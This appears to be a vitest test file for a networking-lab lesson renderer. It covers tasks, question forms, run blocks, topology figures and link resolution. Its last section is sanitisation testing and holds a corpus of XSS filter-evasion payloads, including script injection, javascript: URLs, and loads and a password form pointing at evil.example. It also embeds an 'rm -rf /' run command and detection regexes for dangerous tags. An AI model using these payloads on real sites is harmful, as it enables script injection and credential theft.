import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readLab } from '../../../server/course/load-lab.ts';
import { renderLesson, renderText, type RenderContext } from '../../../server/course/render.ts';
import { resolveLabAddress } from '../../../server/course/lab-address.ts';
import { SourceText } from '../../../server/course/source-text.ts';
import { lessonWords } from '../../../server/course/lesson-words.ts';

const context: RenderContext = {
  topology: {
    nodes: [
      { name: 'h1', kind: 'host', routes: [], sysctls: {}, files: {}, exec: [], services: [] },
      { name: 'r1', kind: 'router', routes: [], sysctls: {}, files: {}, exec: [], services: [] },
    ],
    links: [
      {
        endpoints: [
          { node: 'h1', interface: 'eth0', mac: null, ipv4: ['10.0.1.1/24'], ipv6: [] },
          { node: 'r1', interface: 'eth0', mac: null, ipv4: ['10.0.1.254/24'], ipv6: [] },
        ],
        mtu: 1400,
        impairments: [{ delayMs: 20 }, null],
        offload: false,
        adjustable: false,
      },
    ],
    faults: [],
  },
  tasks: [
    { name: 'cut_it', title: 'Cut `one` & <two>', question: null },
    {
      name: 'which',
      title: 'Which layer?',
      question: { ask: 'Which layer wrote **it**?', choices: ['Link', '"IP"'], isMultiple: false },
    },
    { name: 'many', title: 'Which ones?', question: { ask: 'Which ones?', choices: ['A', 'B'], isMultiple: true } },
    { name: 'free', title: 'How many?', question: { ask: 'How many?', choices: null, isMultiple: false } },
  ],
  resolve: (href) => resolveLabAddress('mtu/fragments', '/labs/20-mtu/10-fragments', href),
  words: lessonWords('en'),
};

const render = (markdown: string): string => renderLesson(markdown, context).trim();

describe('a rendered lesson', () => {
  it('has sections for tasks', () => {
    expect(render(':::task{name=cut_it}\nDo *it*.\n\n- now\n:::\nAfter.')).toMatchInlineSnapshot(`
      "<section class="task" data-task="cut_it" id="task-cut_it"><h2 class="task-title">Cut <code>one</code> &amp; &lt;two&gt;</h2><div class="task-body">
      <p>Do <em>it</em>.</p>
      <ul>
      <li>now</li>
      </ul>
      </div></section>
      <p>After.</p>"
    `);
  });

  it('leaves out no level of headings: under a section, a task is one below it', () => {
    expect(render(':::task{name=which}\n:::\n\n## Next\n\n:::task{name=cut_it}\n:::').match(/<h\d/g)).toEqual([
      '<h2',
      '<h2',
      '<h3',
    ]);
  });

  it('closes the gaps that ends of lines leave in Chinese, and no others', () => {
    expect(render('拆掉帧，\n查目的地。\n“下一跳”\n在 IP\n首部\n里\n\n- 一\n  二')).toBe(
      '<p>拆掉帧，查目的地。“下一跳”在 IP\n首部里</p>\n<ul>\n<li>一二</li>\n</ul>',
    );
    expect(render('one “two”\nthree, `中 文`')).toBe('<p>one “two”\nthree, <code>中 文</code></p>');
  });

  it('has forms for questions, which work without script', () => {
    expect(render(':::task{name=which}\nThink.\n:::')).toMatchInlineSnapshot(`
      "<section class="task" data-task="which" id="task-which"><h2 class="task-title">Which layer?</h2><div class="task-body">
      <p>Think.</p>
      <div class="task-ask"><p>Which layer wrote <strong>it</strong>?</p></div>
      <form class="task-question" data-task="which">
      <fieldset><legend class="sr-only">Which layer wrote it?</legend>
      <label class="task-choice"><input type="radio" name="answer" value="Link"> <span>Link</span></label>
      <label class="task-choice"><input type="radio" name="answer" value="&quot;IP&quot;"> <span>&quot;IP&quot;</span></label>
      </fieldset>
      <button type="submit">Answer</button>
      </form>
      </div></section>"
    `);
    expect(render(':::task{name=many}\n:::')).toContain('<input type="checkbox" name="answer" value="A">');
    expect(render(':::task{name=free}\n:::')).toContain('<input type="text" name="answer" required');
  });

  it('asks once where the prose asks already', () => {
    expect(render(':::task{name=free}\nHow\n*many*?\n:::')).not.toContain('task-ask');
    expect(render(':::task{name=free}\nCount.\n:::')).toContain('<div class="task-ask"><p>How many?</p></div>');
  });

  it('has run blocks and code without prompts', () => {
    expect(render('```bash run node=h1\n$ ping -c1 "10.0.1.1" \\\n>   -s 20\nPING …\n```')).toMatchInlineSnapshot(`
      "<figure class="run" data-node="h1" data-code="ping -c1 &quot;10.0.1.1&quot; \\
        -s 20"><pre><code class="hljs language-bash">$ ping -c1 <span class="hljs-string">&quot;10.0.1.1&quot;</span> \\
      &gt;   -s 20
      PING …</code></pre></figure>"
    `);
    expect(render('```\na <b>\n```')).toMatchInlineSnapshot(
      `"<figure class="code" data-code="a &lt;b&gt;"><pre><code class="hljs">a &lt;b&gt;</code></pre></figure>"`,
    );
  });

  it('has pictures that say something without script', () => {
    expect(render('::topology')).toMatchInlineSnapshot(`
      "<figure class="picture" data-picture="topology" data-options="{}">
      <p><code>h1</code> is a host, <code>r1</code> is a router.</p>
      <table><thead><tr><th>Node</th><th>Interface</th><th>Addresses</th><th>Linked to</th><th>Link</th></tr></thead><tbody><tr><td>h1</td><td>eth0</td><td>10.0.1.1/24</td><td>r1:eth0</td><td>MTU 1400, impaired</td></tr><tr><td>r1</td><td>eth0</td><td>10.0.1.254/24</td><td>h1:eth0</td><td></td></tr></tbody></table>
      <figcaption>The network of this lab</figcaption>
      </figure>"
    `);
    expect(render('::counters{node=h1 names="Ip.OutRequests, eth0.tx_packets"}')).toMatchInlineSnapshot(`
      "<figure class="picture" data-picture="counters" data-options="{&quot;node&quot;:&quot;h1&quot;,&quot;names&quot;:[&quot;Ip.OutRequests&quot;,&quot;eth0.tx_packets&quot;]}">
      <ul><li><code>Ip.OutRequests</code></li><li><code>eth0.tx_packets</code></li></ul>
      <figcaption>Counters of h1</figcaption>
      </figure>"
    `);
    expect(render('::packets{at="h1:eth0" filter="tcp.port in {80, 443}"}')).toContain(
      '<p>The packets at <code>h1:eth0</code> that match <code>tcp.port in {80, 443}</code>.</p>',
    );
    expect(render('::kernel-path{node=h1}')).toContain(
      'data-options="{&quot;node&quot;:&quot;h1&quot;,&quot;direction&quot;:&quot;rx&quot;}"',
    );
    expect(render('::journey{from=h1 command="ping -c1 10.0.1.254"}')).toContain('<code>ping -c1 10.0.1.254</code>');
    expect(render('::layers')).toContain('<td>4 Transport</td>');
    expect(render('::topology   Our network')).toContain('<figcaption>Our network</figcaption>');
  });

  it('leaves texts alone that only look like directives', () => {
    expect(render('::1 is localhost, std::string is not, and\n::ffff:10.0.0.1 neither.')).toBe(
      '<p>::1 is localhost, std::string is not, and\n::ffff:10.0.0.1 neither.</p>',
    );
    expect(render('`::topology`')).toBe('<p><code>::topology</code></p>');
    expect(render('```\n:::task{name=cut_it}\n```')).toContain(':::task{name=cut_it}');
  });

  it('finds the end of a task after code with colons in it', () => {
    const html = render(':::task{name=cut_it}\n```\n:::\n```\nlast\n:::\n\noutside');
    expect(html).toMatch(/last<\/p>\s*<\/div><\/section>\s*<p>outside/);
  });

  it('has GitHub’s tables, alerts, footnotes and anchors', () => {
    const html = render(
      '## Größe & mehr\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> [!WARNING]\n> Hot.\n\nText[^1] ~~no~~ https://example.com\n\n- [x] done\n\n[^1]: Note.',
    );
    expect(html).toContain('<h2 id="h-größe--mehr">');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain(
      '<div class="markdown-alert markdown-alert-warning">\n<p class="markdown-alert-title">Warning</p>',
    );
    expect(html).toContain(
      '<sup><a id="footnote-ref-1" data-footnote-ref aria-describedby="footnote-label" href="#footnote-1">1</a></sup>',
    );
    expect(html).toContain('<section class="footnotes" data-footnotes>');
    expect(html).toContain('<li id="footnote-1">');
    expect(html).toContain('<a href="https://example.com" rel="noopener noreferrer" target="_blank">');
    expect(html).toContain('<input type="checkbox" disabled');
  });

  it('leads to headings, tasks, files and other labs', () => {
    const hrefOf = (markdown: string): string | undefined => /(?:href|src)="([^"]*)"/.exec(render(markdown))?.[1];
    expect(hrefOf('[x](#how-much)')).toBe('#h-how-much');
    expect(hrefOf('[x](#task-cut_it)')).toBe('#task-cut_it');
    expect(hrefOf('![x](assets/a%20b.svg)')).toBe('/labs/mtu/fragments/assets/a%20b.svg');
    expect(hrefOf('[x](./assets/a.txt?x=1)')).toBe('/labs/mtu/fragments/assets/a.txt?x=1');
    expect(hrefOf('[x](../30-path-mtu/index.md#why)')).toBe('/labs/mtu/path-mtu#h-why');
    expect(hrefOf('[x](../../10-intro/10-hello/)')).toBe('/labs/intro/hello');
  });

  it('can be made of one lab in a moment', () => {
    const file = path.join(import.meta.dirname, '../../labs/fixtures/sound-lab.md');
    const { lab } = readLab(new SourceText(file, readFileSync(file, 'utf8')), new Map(), {
      id: 'm/l',
      directory: path.dirname(file),
      language: 'en',
    });
    const tookMs = Array.from({ length: 15 }, (_, index) => {
      const startedAt = performance.now();
      lab?.resolve(`seed ${index}`);
      return performance.now() - startedAt;
    }).toSorted((one, other) => one - other);
    // The fastest of them: other tests share this machine.
    expect(tookMs[0]).toBeLessThan(50);
  });
});

describe('a lesson that wants to run something', () => {
  // From the OWASP filter evasion list, and what our own elements would allow.
  const corpus = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '[x](javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<input type=image src=x onerror=alert(1)>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<div onmouseover="alert(1)">x</div>',
    '<h2 id="lab-data">x</h2>',
    '<section class="task" data-task="cut_it" id="task-cut_it">x</section>',
    ':::task{name=cut_it}\n</section><script>alert(1)</script>\n:::',
    ':::task{name=cut_it}\n<sec<section>tion data-slot="x">\n:::',
    '<figure class="run" data-node="h1" data-code="rm -rf /"><pre>ls</pre></figure>',
    '```bash run node="><script>alert(1)</script>\nls\n```',
    '```"><img/src=x/onerror=alert(1)>\nls\n```',
    '::counters{node=h1 names="<img src=x onerror=alert(1)>"}',
    "::packets{at='h1:eth0' filter='\"><script>alert(1)</script>'}",
    '::topology <script>alert(1)</script>',
    'x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <script>alert(1)</script>',
    '## <img src=x onerror=alert(1)>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script>',
    '<title><script>alert(1)</script></title>',
    '<a href="#x" onclick=alert(1) target=_top>x</a>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '\u0000<script>alert(1)</script>',
  ];

  /** Tags and attributes of HTML that has no comments: what a browser would make elements of. */
  const elementsOf = (html: string): { tag: string; attributes: string }[] =>
    [...html.matchAll(/<([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map(([, tag = '', attributes = '']) => ({
      tag: tag.toLowerCase(),
      attributes,
    }));

  it.each(corpus)('%j cannot', (markdown) => {
    for (const html of [renderLesson(markdown, context), renderText(markdown, context.resolve)]) {
      for (const { tag, attributes } of elementsOf(html)) {
        expect(tag).not.toMatch(
          /^(?:script|style|iframe|object|embed|svg|math|link|meta|base|body|textarea|title|noscript|x:)/,
        );
        const names = attributes.replace(/"[^"]*"/g, '""');
        expect(names).not.toMatch(/\b(?:on\w+|style|action|formaction|srcdoc|background|xlink)\b\s*=/i);
        expect(attributes).not.toMatch(
          /(?:href|src)="\s*(?:javascript|vbscript|data|\/\/|https?:\/\/evil\.example\/x)/i,
        );
        expect(attributes).not.toMatch(/id="(?!h-|footnote|task-cut_it")/);
      }
    }
  });

  it('cannot pretend to be a task, a form or a run block', () => {
    expect(render('<section class="task" data-task="cut_it" id="task-cut_it">x</section>')).not.toContain('data-task');
    expect(render('<form class="task-question"><button>ok</button></form>')).not.toMatch(/<form|<button/);
    expect(render('<figure class="run" data-node="h1" data-code="rm"><pre>ls</pre></figure>')).not.toMatch(
      /data-code|data-node|class="run"/,
    );
  });
});
